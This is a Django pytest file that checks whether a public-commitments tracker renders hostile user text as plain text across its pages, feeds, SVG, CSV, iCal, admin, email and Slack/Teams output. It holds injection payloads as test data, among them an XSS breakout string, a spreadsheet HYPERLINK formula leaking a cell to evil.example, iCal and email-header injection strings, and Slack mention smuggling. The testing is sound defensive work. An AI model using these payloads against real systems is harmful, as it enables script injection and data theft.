"""Markup in what others write stays text wherever it comes out again: pages, pictures, feeds, data, mails, messages."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from typing import Any

import pytest
from django.contrib import admin
from django.db import DatabaseError, models, transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from icalendar import Calendar
from lxml import etree, html

from commitments import corrections, decisions
from commitments.digests import deliver, signup
from commitments.models import (
    Administration,
    Commitment,
    Definition,
    Department,
    Goalpost,
    Milestone,
    NextEvidence,
    OwnWords,
    PolicyArea,
    Question,
    Reply,
    Webhook,
    WebhookMessage,
)
from commitments.webhooks import wording
from tests.commitments import make
from tests.commitments.mailbox import serving
from tests.commitments.test_admin_lists import fill
from tracker.models import Release

pytestmark = pytest.mark.django_db

#: Ends what it may stand in, of any kind, and begins an element that nothing of ours has.
PROBE = "xss-probe"
HOSTILE = f"""kelp '"></title></textarea></script>--></svg><{PROBE} onload=alert(1)>]]>{{{{7*7}}}} kelp"""
DAY = dt.date(2025, 2, 1)


@pytest.fixture
def trees() -> Commitment:
    """A commitment all of whose words are hostile, and so is whatever belongs to it."""
    made = make.commitment(
        HOSTILE,
        slug="plant-trees",
        statement=HOSTILE,
        due=timezone.localdate() - dt.timedelta(days=1),
        deadline_text=HOSTILE[:100],
        department=Department.objects.create(name=HOSTILE, slug="forests"),
        policy_area=PolicyArea.objects.create(name=HOSTILE, slug="nature"),
        administration=Administration.objects.create(name=HOSTILE, slug="2024", took_office=dt.date(2024, 7, 5)),
    )
    series = make.target(made, HOSTILE, "kelp<b>", 20000)
    source = make.source("Ministry news")
    source.name = source.publisher = HOSTILE
    source.save()
    release = make.release(f"{HOSTILE} In all 9,400 stand.", title=HOSTILE, at=source)
    piece = make.evidence(
        made,
        release,
        f"{HOSTILE} In all 9,400 stand.",
        figures=[make.figure(9400, series)],
    )
    decisions.accept(piece, make.deed())
    make.revise(release, f"{HOSTILE} In all 9,500 stand. {HOSTILE}")
    change = decisions.change_status(made, "off_track", make.user(), HOSTILE, DAY, evidence=piece)
    Reply.objects.create(status_change=change, who=HOSTILE, received_on=DAY, words=HOSTILE, recorded_by=make.user())
    Definition.objects.create(
        deadline_latest=timezone.localdate() - dt.timedelta(days=1),
        commitment=made,
        kind="clarification",
        statement=HOSTILE,
        quote=HOSTILE,
        quote_title=HOSTILE,
        effective_from=DAY,
    )
    Milestone.objects.create(commitment=made, title=HOSTILE, deadline_latest=timezone.localdate())
    Question.objects.create(commitment=made, asked_of=HOSTILE, asked_on=DAY, question=HOSTILE)
    NextEvidence.objects.create(commitment=made, what=HOSTILE)
    OwnWords.objects.create(subject=OwnWords.Subject.values[0], text=HOSTILE)
    asked = corrections.receive(made, HOSTILE, HOSTILE, "jo@example.org", "192.0.2.1")
    corrections.decide(asked, make.deed(), upheld=True, answer=HOSTILE, changed=HOSTILE)
    return made


def probes(answer: Any) -> list[Any]:
    """What of the answer an attacker would have made, were it read as a browser does."""
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    kind = answer.headers["Content-Type"].partition(";")[0]
    if kind == "text/html":
        tree = html.fromstring(body)
    elif kind.endswith("xml"):
        tree = etree.fromstring(body)  # raises where it is not well-formed
    else:
        return []
    found = tree.xpath(f"//*[local-name()='{PROBE}'] | //@onload | //*[starts-with(@href, 'javascript:')]")
    return [*found, *tree.xpath("//script[not(@src) and @type!='application/ld+json']")]


def says_it(answer: Any) -> bool:
    return "kelp" in answer.content.decode(errors="replace")


PAGES = [
    *("/", "/commitments/", "/commitments/?sort=title&department=forests", "/commitments/?q=kelp", "/search/?q=kelp"),
    *("/commitments/plant-trees/", "/commitments/plant-trees/versions/1/", "/commitments/plant-trees/embed/"),
    *("/commitments/plant-trees/embed.svg", "/commitments/plant-trees/embed.svg?theme=dark", "/compare/"),
    *("/commitments/plant-trees/correct/", "/corrections/", "/changes/", "/sources/", "/releases/{release}/"),
    *("/releases/{release}/revisions/1/", "/releases/{release}/revisions/2/changes/", "/releases/{release}/correct/"),
    *("/subscribe/?scope=commitment:plant-trees", "/subscribe/?scope=department:forests", "/about/{own_words}/"),
    *("/feeds/changes.atom", "/feeds/department/forests/changes.atom", "/commitments/plant-trees/changes.atom"),
]


@pytest.mark.parametrize("page", PAGES)
def test_on_no_public_page_and_in_no_feed_is_it_more_than_text(client: Client, trees: Commitment, page: str) -> None:
    names = {"release": Release.objects.get().pk, "own_words": OwnWords.objects.get().subject}
    answer = client.get(page.format(**names))
    assert answer.status_code == 200
    assert says_it(answer)
    assert probes(answer) == []


@pytest.mark.parametrize("page", ["/commitments/?q=", "/search/?q=", "/subscribe/?scope=", "/changes/?before="])
def test_what_is_asked_for_comes_back_as_text(client: Client, page: str) -> None:
    answer = client.get(f"{page}{HOSTILE.replace(';', '')}")
    assert answer.status_code == 200
    assert probes(answer) == []


@pytest.mark.parametrize(
    "address", ["commitments/plant-trees", "releases", "evidence", "measurements", "changes", "sources", "departments"]
)
def test_data_is_data_and_no_browser_takes_it_for_a_page(client: Client, trees: Commitment, address: str) -> None:
    answer = client.get(f"/api/v1/{address}/")
    assert "kelp" in json.dumps(answer.json())
    assert answer.headers["Content-Type"].startswith("application/json")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("name", ["commitments", "evidence", "measurements"])
def test_a_cell_that_would_be_a_formula_is_text_in_each_file(client: Client, name: str) -> None:
    formula = '=HYPERLINK("https://evil.example?"&A1,"kelp")'
    made = make.commitment(formula, statement=f"\t{formula}")
    release = make.release(f"{formula}\nmore", title=f"@{formula}")
    piece = make.evidence(made, release, figures=[make.figure(9, make.target(made, f"+{formula}", f"-{formula}"))])
    decisions.accept(piece, make.deed())
    body = b"".join(client.get(f"/data/{name}.csv").streaming_content).decode()  # type: ignore[arg-type]
    cells = [cell for row in list(csv.reader(io.StringIO(body)))[1:] for cell in row]
    assert any(formula in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip("\t\r\n ")[:1] in set("=+@")] == []


def test_words_that_look_like_lines_of_a_calendar_are_words(client: Client) -> None:
    evil = "Plant\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Owned\r\nATTACH:https://evil.example/\r\nX-A:"
    area = PolicyArea.objects.create(name="A,B;C\nATTACH:x", slug="a")
    due = timezone.localdate() + dt.timedelta(days=3)
    made = make.commitment("Plant", statement=evil, due=due, deadline_text=evil, policy_area=area)
    Commitment.objects.filter(pk=made.pk).update(title=evil)
    body = client.get("/feeds/deadlines.ics").content
    (event,) = Calendar.from_ical(body.decode()).events
    assert "ATTACH" not in event
    assert "Owned" in str(event["SUMMARY"])
    assert not re.search(rb"(?m)^(ATTACH|X-A|SUMMARY:Owned)", body)


def test_the_picture_of_a_link_is_drawn_of_hostile_words_too(client: Client, trees: Commitment) -> None:
    answer = client.get("/commitments/plant-trees/share.png")
    assert answer.content.startswith(b"\x89PNG")


def test_a_picture_of_a_commitment_can_run_and_load_nothing(client: Client, trees: Commitment) -> None:
    answer = client.get("/commitments/plant-trees/embed.svg")
    tree = etree.fromstring(answer.content)
    assert tree.xpath("//*[local-name()='script' or local-name()='foreignObject' or local-name()='image']") == []
    assert tree.xpath("//@*[starts-with(name(), 'on') or contains(., 'http:') and name()!='xmlns']") == []
    assert "unsafe-inline" not in answer.headers["Content-Security-Policy"]


def test_json_ld_cannot_be_ended_from_within_and_says_what_was_written(client: Client, trees: Commitment) -> None:
    page = client.get("/commitments/plant-trees/").content.decode()
    (written,) = re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.DOTALL)
    assert json.loads(written)["name"] == HOSTILE


# The admin.

REGISTERED = sorted(admin.site._registry, key=lambda model: model._meta.label)


#: Ends of the names of columns in which words of ours alone stand.
OURS = ("hash", "key", "sha256", "path", "password", "kind", "form", "base", "event", "separator")


def poison() -> int:
    """Put hostile words into whatever text the database lets us change; how many columns took them."""
    taken = 0
    for model in REGISTERED:
        for field in model._meta.concrete_fields:
            is_text = type(field) in (models.CharField, models.TextField)
            if not is_text or field.choices or field.unique or field.name.endswith(OURS):
                continue
            try:
                with transaction.atomic():
                    taken += bool(model._base_manager.update(**{field.name: HOSTILE[: field.max_length]}))
            except DatabaseError:
                continue  # what is history is not changed
    return taken


@pytest.fixture
def poisoned(db: None) -> None:
    fill(1)
    assert poison() > 40


@pytest.mark.parametrize("page", ["changelist", "changelist?q=kelp", "change", "history", "delete"])
def test_on_no_page_of_the_admin_is_it_more_than_text(staff: Client, poisoned: None, page: str) -> None:
    seen = 0
    for model in REGISTERED:
        name, _, query = page.partition("?")
        row = model._base_manager.order_by("pk").first()
        if row is None and name != "changelist":
            continue
        of = f"admin:{model._meta.app_label}_{model._meta.model_name}_{name}"
        answer = staff.get(f"{reverse(of, args=[] if name == 'changelist' else [row.pk])}?{query}")
        assert answer.status_code in {200, 302, 403}, model
        if answer.status_code == 200:
            seen += says_it(answer)
            assert probes(answer) == [], model
    assert seen > 5


@pytest.mark.parametrize("page", ["index", "commitments_evidence_review", "commitments_evidence_many"])
def test_nor_on_the_desks_own_pages(staff: Client, poisoned: None, page: str) -> None:
    answer = staff.get(reverse(f"admin:{page}"), follow=True)
    assert probes(answer) == []


@pytest.mark.parametrize(
    "page",
    [
        "commitment_change/{trees}",
        "commitment_status/{trees}",
        "commitment_merge/{trees}",
        "commitment_quote/{trees}",
        "commitment_preview/{trees}",
        "department_rename/{department}",
        "department_hand_over/{department}",
        "definition_add/?commitment={trees}",
        "definition_add/?commitment={trees}&goalpost={goalpost}",
        "milestone_add/?commitment={trees}",
        "measurement_changelist/?q=kelp",
    ],
)
def test_nor_on_pages_that_explain_themselves_by_words_of_others(staff: Client, trees: Commitment, page: str) -> None:
    piece, of = trees.evidence.get(), trees.first_definition
    post = Goalpost.objects.create(evidence=piece, definition=of, aspect="number", said=HOSTILE)
    named = {"trees": trees.pk, "goalpost": post.pk}
    name, _, rest = page.format(department=trees.department_id, **named).partition("/")
    arguments = [rest] if rest.isdigit() else []
    answer = staff.get(f"{reverse(f'admin:commitments_{name}', args=arguments)}{'' if arguments else rest}")
    assert answer.status_code == 200
    assert says_it(answer)
    assert probes(answer) == []


# Mails and messages.


def test_a_digest_carries_it_as_text_in_one_subject_line(trees: Commitment, settings: Any) -> None:
    settings.DEFAULT_FROM_EMAIL = "Pledges <digests@pledges.example>"
    with serving(settings) as mailbox:
        signup.add_confirmed("a@example.org", "daily", "all")
        decisions.change_status(trees, "in_progress", make.user(), HOSTILE, DAY)
        deliver.send_for(timezone.localdate())
        (mail,) = mailbox.to("a@example.org")
    page: Any = mail.get_body(("html",))
    tree = html.fromstring(page.get_content())
    assert "kelp" in page.get_content()
    assert tree.xpath(f"//{PROBE} | //script | //@onload") == []


@pytest.mark.parametrize("newline", ["\r\n", "\n", "\r", "\u2028", "\x0b", "\x85"])
def test_a_title_of_two_lines_adds_no_header_to_the_answer_of_a_correction(settings: Any, newline: str) -> None:
    made = make.commitment("Plant")
    Commitment.objects.filter(pk=made.pk).update(title=f"Plant{newline}Bcc: everybody@example.org")
    made.refresh_from_db()
    settings.DEFAULT_FROM_EMAIL = "Pledges <digests@pledges.example>"
    with serving(settings) as mailbox:
        asked = corrections.receive(made, "There are more.", "", "jo@example.org", "192.0.2.1")
        corrections.decide(asked, make.deed(), upheld=True, answer="So it is.", changed="The number.")
        assert corrections.answer_senders() == 1
        (mail,) = mailbox.to("jo@example.org")
    assert mail["Bcc"] is None
    assert mailbox.addresses == ["jo@example.org"]


HAPPENING = wording.Happening(
    event="suggestion",
    about="x",
    title="<!channel> [look](https://evil.example)",
    text="<https://evil.example|our page> & <@U123> [look](https://evil.example) **now**",
    url="https://pledges.example/admin/",
    at=dt.datetime(2025, 2, 1, tzinfo=dt.UTC),
)


def test_words_of_a_release_call_nobody_and_link_nowhere_in_slack() -> None:
    sent = json.dumps(wording.body(HAPPENING, Webhook.Shape.SLACK))
    assert "<!channel>" not in sent
    assert "<@U123>" not in sent
    assert re.findall(r"<(http[^|>]*)", sent) == ["https://pledges.example/admin/"]


def test_words_of_a_release_link_nowhere_in_teams() -> None:
    (attachment,) = wording.body(HAPPENING, Webhook.Shape.TEAMS)["attachments"]
    assert {block["type"] for block in attachment["content"]["body"]} == {"RichTextBlock"}  # which reads no Markdown


def test_a_webhooks_answer_is_text_in_the_log_of_it(staff: Client) -> None:
    hook = Webhook.objects.create(name="Tool", url="https://hooks.example/x")
    WebhookMessage.objects.create(webhook=hook, event="test", about="x", body={"text": HOSTILE}, error=HOSTILE)
    answer = staff.get(reverse("admin:commitments_webhookmessage_changelist"))
    assert says_it(answer)
    assert probes(answer) == []


def test_a_goalpost_says_hostile_words_as_words(staff: Client, trees: Commitment) -> None:
    piece = trees.evidence.get()
    post = Goalpost.objects.create(evidence=piece, definition=trees.first_definition, aspect="number", said=HOSTILE)
    answer = staff.get(reverse("admin:commitments_goalpost_change", args=[post.pk]))
    assert says_it(answer)
    assert probes(answer) == []
